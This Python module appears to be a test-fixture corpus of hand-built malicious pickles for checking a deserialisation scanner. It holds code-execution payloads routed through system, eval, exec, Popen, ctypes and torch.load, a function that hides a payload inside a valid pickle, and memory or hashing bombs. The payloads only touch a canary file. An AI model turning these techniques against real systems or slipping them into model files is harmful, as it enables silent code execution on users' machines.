"""Pickles that run code when they are unpickled, and pickles that take all memory or never end."""

from __future__ import annotations

import pickle
import struct

COMMAND = "touch $SHARDKIT_CANARY"
PYTHON = "__import__('os').system('touch $SHARDKIT_CANARY')"

STOP = b"."


def text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call(module: str, name: str, *args: bytes) -> bytes:
    """GLOBAL, a tuple, REDUCE."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(args) + b"tR"


def stack_call(module: str, name: str, *args: bytes) -> bytes:
    """STACK_GLOBAL, a tuple, REDUCE: a name may have dots."""
    return text(module) + text(name) + b"\x93(" + b"".join(args) + b"tR"


_NESTED = pickle.dumps(["inner"], 2)[:-1].replace(b"inner", b"outer") + STOP

CALLS: dict[str, bytes] = {
    "system": call("posix", "system", text(COMMAND)),
    "eval": call("builtins", "eval", text(PYTHON)),
    "exec": call("builtins", "exec", text(PYTHON)),
    "popen": call("subprocess", "Popen", text("touch"), b"]" + text("/tmp/x") + b"a"),
    "inst": b"(" + text(COMMAND) + b"iposix\nsystem\n",
    "obj": b"(cposix\nsystem\n" + text(COMMAND) + b"o",
    "dotted": stack_call("torch.serialization", "os.system", text(COMMAND)),
    "getattr": call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system")),
    "newobj": b"csubprocess\nPopen\n(" + text("touch") + b"t\x81",
    "newobj-ex": b"csubprocess\nPopen\n)}\x92",
    "build": b"ccollections\nOrderedDict\n)R}"
    + text("__setstate__")
    + b"cposix\nsystem\nsb"
    + text(COMMAND)
    + b"b",
    "extension": b"\x82\x01",
    "persistent": text(COMMAND) + b"Q",
    "runpy": call("runpy", "run_path", text("payload.py")),
    "ctypes": call("ctypes", "CDLL", text("./payload.so")),
    "pickle-in-pickle": call("pickle", "loads", b"U" + bytes([len(_NESTED)]) + _NESTED),
    "torch-load": call("torch.serialization", "load", text("payload.pt")),
    "numpy": call("numpy.testing._private.utils", "runstring", text(PYTHON), b"}"),
    "partial": call("functools", "partial", b"cposix\nsystem\n", text(COMMAND)),
    "marshal": call("marshal", "loads", b"U\x04abcd"),
    "import-by-name": b"cantigravity\ngeohash\n",
    "web": call("webbrowser", "open", text("http://127.0.0.1:9/")),
    "remove": call("shutil", "rmtree", text("/tmp/nothing-of-that-name")),
}
"""What leaves a value on the stack after running something."""


def bare(name: str) -> bytes:
    """A whole pickle that runs a payload and returns what it gives."""
    return b"\x80\x02" + CALLS[name] + STOP


def stealth(pickled: bytes, name: str = "system") -> bytes:
    """A good pickle that runs a payload first, and then describes what it did before."""
    assert pickled[:1] == b"\x80"
    body = pickled[2:]
    if body[:1] == b"\x95":  # a frame, whose length would be wrong
        body = body[9:]
    return pickled[:2] + CALLS[name] + b"0" + body


MEMO_BOMB = b"\x80\x02Nr" + struct.pack("<I", 1 << 28) + STOP
"""Nine bytes for which C's unpickler allocates 4 GiB."""

HASH_BOMB = b"\x80\x02})q\0" + b"".join(b"h%c\x86q%c" % (i, i + 1) for i in range(64)) + b"Ns."
"""A tuple doubled 64 times as the key of a dict: its hash is never done."""

LONG_BOMB = b"\x80\x02\x8b" + struct.pack("<I", 1 << 30) + b"\1" * 64 + STOP
TEXT_BOMB = b"\x80\x04\x8d" + struct.pack("<Q", 1 << 40) + b"a" + STOP
FRAME_BOMB = b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"N."
DEEP = b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + STOP
WIDE = b"\x80\x02(" + b"N" * 200_000 + b"l."
CYCLE = b"\x80\x02]q\0" + b"".join(b"(" + b"h\0" * 8 + b"e" for _ in range(1000)) + STOP
BYTEARRAY_BOMB = call("builtins", "bytearray", b"\x8a\x06" + (1 << 40).to_bytes(6, "little"))

BOMBS: dict[str, bytes] = {
    "memo": MEMO_BOMB,
    "hash": HASH_BOMB,
    "long": LONG_BOMB,
    "text": TEXT_BOMB,
    "frame": FRAME_BOMB,
    "deep": DEEP,
    "wide": WIDE,
    "cycle": CYCLE,
    "bytearray": b"\x80\x02" + BYTEARRAY_BOMB + STOP,
}
